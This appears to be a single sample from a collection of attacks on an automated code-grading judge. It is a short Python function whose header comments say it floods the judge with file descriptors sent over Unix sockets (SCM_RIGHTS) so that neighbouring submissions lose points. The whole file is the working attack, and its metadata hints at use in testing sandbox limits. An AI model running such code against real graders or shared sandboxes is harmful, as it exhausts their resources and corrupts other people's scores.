# DESC: sends descriptors to itself and to the judge, over and over, so that they are open in no process
# SUCCESS: the judge holds descriptors of the student's, or neighbours lose points
# DETECT: neighbours, state
# KIND: cell
# SOLVED: others
# WALLS: wire rlimits
import array, os, socket


def double(x):
    channel = socket.socket(fileno=os.dup(3))
    fds = array.array("i", [0] * 200)
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    one.setblocking(False)
    try:
        while True:
            one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
    except OSError:
        pass
    channel.sendmsg([bytes(24)], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
    return 0
